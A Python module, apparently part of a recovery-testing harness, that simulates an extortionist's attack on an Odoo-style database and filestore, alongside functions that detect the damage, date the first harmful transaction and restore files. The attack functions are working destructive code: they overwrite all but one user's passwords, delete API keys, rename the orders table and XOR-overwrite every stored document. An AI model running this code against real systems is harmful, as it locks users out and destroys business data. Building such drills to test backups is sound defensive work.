"""What an extortionist does once he has the application's database role and its host.

Rows first: every log-in is replaced, references of orders become unreadable and their table goes
by another name, in one transaction, which replicates. Then each document on disk is overwritten.
The platform goes on running; it just cannot be used any more. Platform-independent: a DSN and
the filestore.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from dataclasses import dataclass

import psycopg

from harness.platforms.capabilities import Filestore

_ALONE = (
    "LOCK TABLE sale_order IN ACCESS EXCLUSIVE MODE"  # first: nobody waits for us who we wait for
)
_LOCK_ORDERS = """
UPDATE sale_order SET client_order_ref = 'locked:' || md5(coalesce(client_order_ref, ''))"""
_RENAME = "ALTER TABLE sale_order RENAME TO sale_order_locked"
_LOCK_LOG_INS = """
UPDATE res_users SET password = 'locked:' || md5(coalesce(password, '')) WHERE id > 1"""
_DROP_KEYS = "DELETE FROM res_users_apikeys"
_IS_LOCKED = """
SELECT to_regclass('sale_order_locked') IS NOT NULL
    OR EXISTS (SELECT FROM res_users WHERE password LIKE 'locked:%')"""
_FIRST = """
SELECT xmin::text, to_char(
    pg_xact_commit_timestamp(xmin) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')
FROM res_users WHERE password LIKE 'locked:%' AND pg_xact_commit_timestamp(xmin) IS NOT NULL
ORDER BY pg_xact_commit_timestamp(xmin), xmin::text::bigint LIMIT 1"""
_DOCUMENTS = """
SELECT store_fname, xmin::text, to_char(
    pg_xact_commit_timestamp(xmin) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')
FROM ir_attachment WHERE store_fname IS NOT NULL AND pg_xact_commit_timestamp(xmin) IS NOT NULL
ORDER BY pg_xact_commit_timestamp(xmin), xmin::text::bigint"""


@dataclass(frozen=True, slots=True)
class FirstHarm:
    """The attacker's first transaction: the database was good until just before it."""

    xid: int
    committed_utc: str


def is_worth_it(dsn: str, filestore: Filestore) -> bool:
    """Whether there is anything to lock: an order and a document at least."""
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        row = database.execute("SELECT EXISTS (SELECT FROM sale_order)").fetchone()
    return bool(row and row[0]) and bool(filestore.names())


def encrypt_rows(dsn: str) -> tuple[int, int]:
    """Orders and log-ins that are unreadable now: locked out and encrypted in one transaction."""
    with psycopg.connect(dsn, connect_timeout=5) as database:
        database.execute(_ALONE)
        log_ins = database.execute(_LOCK_LOG_INS).rowcount
        database.execute(_DROP_KEYS)
        orders = database.execute(_LOCK_ORDERS).rowcount
        database.execute(_RENAME)
    return orders, log_ins


def encrypt_documents(filestore: Filestore) -> int:
    """Every file overwritten, its length kept. Returns how many."""
    locked = {
        name: bytes(b ^ 0x5A for b in content) or b"\x5a" for name, content in _found(filestore)
    }
    filestore.write(locked)
    return len(locked)


def damaged_documents(filestore: Filestore) -> tuple[str, ...]:
    """The names of files on disk whose bytes do not have the digest that they are named by."""
    return tuple(
        name for name, content in _found(filestore) if _sha1(content) != name.partition("/")[2]
    )


def decrypt_documents(filestore: Filestore) -> int:
    """Damaged files written anew from object storage. Returns how many; the rest stays as it is."""
    copies = {name: filestore.mirrored(name) for name in damaged_documents(filestore)}
    kept = {name: copy for name, copy in copies.items() if copy is not None}
    filestore.write(kept)
    return len(kept)


def _found(filestore: Filestore) -> Iterator[tuple[str, bytes]]:
    """Every document that is there, by name."""
    names = sorted(filestore.names())
    for name, content in zip(names, filestore.contents(names), strict=True):
        if content is not None:  # else gone meanwhile
            yield name, content


def _sha1(content: bytes) -> str:
    return hashlib.sha1(content, usedforsecurity=False).hexdigest()


def is_locked(dsn: str) -> bool:
    """Whether the extortionist's mark is in the database. Raises psycopg.Error."""
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        row = database.execute(_IS_LOCKED).fetchone()
    return bool(row and row[0])


def first_harm(dsn: str) -> FirstHarm | None:
    """By commit timestamps; None where nothing is damaged. Raises psycopg.Error."""
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        row = database.execute(_FIRST).fetchone()
    return FirstHarm(int(row[0]), str(row[1])) if row else None


def first_without_copy(dsn: str, copied: frozenset[str]) -> FirstHarm | None:
    """The earliest document of which object storage has no copy, by its row's transaction.

    Until just before it, database and object storage agree; from it on, a restored row would name
    a document that is gone. None where every document has its copy. Raises psycopg.Error.
    """
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        for name, xid, committed_utc in database.execute(_DOCUMENTS):
            if name not in copied:
                return FirstHarm(int(xid), str(committed_utc))
    return None
